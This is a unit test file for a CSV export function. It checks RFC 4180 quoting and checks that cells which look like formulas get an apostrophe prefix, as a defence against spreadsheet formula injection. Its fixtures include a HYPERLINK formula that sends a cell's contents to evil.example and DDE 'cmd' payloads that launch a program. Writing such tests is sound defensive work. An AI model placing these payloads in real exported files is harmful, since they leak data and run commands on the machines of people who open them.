import { describe, expect, it } from 'vitest';
import { toCsv } from '../../src/ui/csv.ts';

describe('toCsv', () => {
  it('writes RFC 4180 CSV with quoting only where needed', () => {
    const csv = toCsv({
      columns: [
        { name: 'target', type: 'VARCHAR' },
        { name: 'rate', type: 'DOUBLE' },
        { name: 'closed', type: 'BOOLEAN' },
        { name: 'note', type: 'VARCHAR' },
        { name: 'years', type: 'INTEGER[]' },
      ],
      rows: [
        {
          target: 'Eastasia, Inc.',
          rate: 0.7333333333333333,
          closed: true,
          note: null,
          years: [1, 2],
        },
        { target: 'Oceania', rate: 0.5, closed: false, note: 'said "no"\nthen yes', years: null },
      ],
    });
    expect(csv).toBe(
      'target,rate,closed,note,years\r\n' +
        '"Eastasia, Inc.",0.7333333333333333,true,,"[1,2]"\r\n' +
        'Oceania,0.5,false,"said ""no""\nthen yes",\r\n',
    );
  });
});

describe('toCsv with values a spreadsheet would run (issue 14, finding 7)', () => {
  const csv = toCsv({
    columns: [
      { name: 'label', type: 'VARCHAR' },
      { name: 'change', type: 'DOUBLE' },
      { name: '=1+1', type: 'INTEGER' },
    ],
    rows: [
      { label: '=HYPERLINK("https://evil.example/?x="&A1,"Click")', change: -3.5, '=1+1': 1 },
      { label: "+cmd|' /C calc'!A0", change: -0, '=1+1': -7 },
      { label: "-2+3+cmd|' /C calc'!A0", change: 2, '=1+1': 0 },
      { label: "@SUM(1+1)*cmd|' /C calc'!A0", change: 1e-7, '=1+1': 3 },
      { label: '\t=1+1', change: -1e21, '=1+1': 4 },
      { label: '\r=1+1', change: 0, '=1+1': 5 },
      { label: 'plain -5, not at the start: a+b=c', change: 0.5, '=1+1': 6 },
      { label: '-3.5', change: null, '=1+1': null },
    ],
  });
  const lines = csv.split('\r\n');

  it('writes text that starts like a formula with a leading apostrophe, quoted as needed', () => {
    expect(lines[1]).toBe(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",-3.5,1`);
    expect(lines[2]).toBe(`'+cmd|' /C calc'!A0,0,-7`);
    expect(lines[3]).toBe(`'-2+3+cmd|' /C calc'!A0,2,0`);
    expect(lines[4]).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0,1e-7,3`);
    expect(lines[5]).toBe(`'\t=1+1,-1e+21,4`);
    expect(lines[6]).toBe(`"'\r=1+1",0,5`);
  });

  it('also in column names', () => {
    expect(lines[0]).toBe(`label,change,'=1+1`);
  });

  it('leaves numbers (negative ones too) and other text as they are', () => {
    expect(lines[7]).toBe('"plain -5, not at the start: a+b=c",0.5,6');
    // Text that looks like a negative number is still text from the notebook: it gets the
    // apostrophe; a number column's -3.5 (above) does not.
    expect(lines[8]).toBe(`'-3.5,,`);
  });
});
